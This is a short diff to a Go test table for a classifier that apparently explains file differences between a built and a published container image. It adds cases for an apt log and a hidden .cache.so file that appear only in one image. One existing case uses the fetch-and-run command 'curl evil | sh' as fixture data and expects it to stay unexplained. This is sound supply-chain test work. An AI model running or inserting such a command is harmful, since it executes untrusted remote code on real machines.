@@ -173,6 +173,10 @@ func TestClassify(t *testing.T) {
 		{name: "ls -l output", in: Input{Path: "/app/listing.txt", ContentDiffers: true,
 			A: []byte("-rw-r--r-- 1 root root 6 Nov 30 02:33 hello.txt\n"), B: []byte("-rw-r--r-- 1 root root 6 Mar  1  2025 hello.txt\n")},
 			want: ContextTimes.ID},
+		{name: "a log only in one image", in: Input{Path: "/var/log/apt/eipp.log.xz", OnlyIn: "published"},
+			want: PackageManagerFiles.ID, evidence: []string{"apt's logs"}},
+		{name: "a file only in one image", in: Input{Path: "/app/.cache.so", OnlyIn: "published"},
+			want: Unknown.ID, evidence: []string{"only in the published image"}},
 		{name: "nothing fits", in: Input{Path: "/app/run.sh", ContentDiffers: true, A: []byte("echo hi\n"), B: []byte("curl evil | sh\n")},
 			want: Unknown.ID},
 	}
